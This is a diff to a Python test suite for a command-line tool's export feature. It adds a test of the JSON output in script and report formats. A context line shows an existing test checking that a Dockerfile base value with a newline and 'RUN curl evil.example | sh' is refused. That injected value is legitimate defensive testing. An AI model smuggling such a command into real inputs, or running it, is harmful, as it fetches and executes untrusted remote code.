@@ -146,3 +146,19 @@ def test_dockerfile_base_with_a_newline_is_refused(proj, capsys):
     rc = main(["--root", str(proj.root), "export", proj.vid, "--format", "dockerfile", "--base",
                "python:3.12\nRUN curl evil.example | sh"])
     assert rc == 2 and "is not an image reference" in capsys.readouterr().err
+
+
+def test_json_says_what_was_written(proj, tmp_path, capsys):
+    script = tmp_path / "install.sh"
+    assert main(["--root", str(proj.root), "export", proj.vid, "--format", "script", "-o", str(script), "--json"]) == 0
+    out = capsys.readouterr()
+    assert json.loads(out.out) == {"id": proj.vid, "format": "script", "path": str(script),
+                                   "bytes": script.stat().st_size}
+    assert str(script) not in out.err and os.access(script, os.X_OK)
+    # no -o: the artifact travels in the object
+    assert main(["--root", str(proj.root), "export", proj.vid, "--json"]) == 0
+    d = json.loads(capsys.readouterr().out)
+    assert (d["format"], d["path"], d["bytes"]) == ("report", None, len(d["text"].encode()))
+    assert json.loads(d["text"]) == export.report(proj.root, proj.vid)
+    assert main(["--root", str(proj.root), "export", "nope", "--json"]) == 1
+    assert "nope" in json.loads(capsys.readouterr().out)["error"]
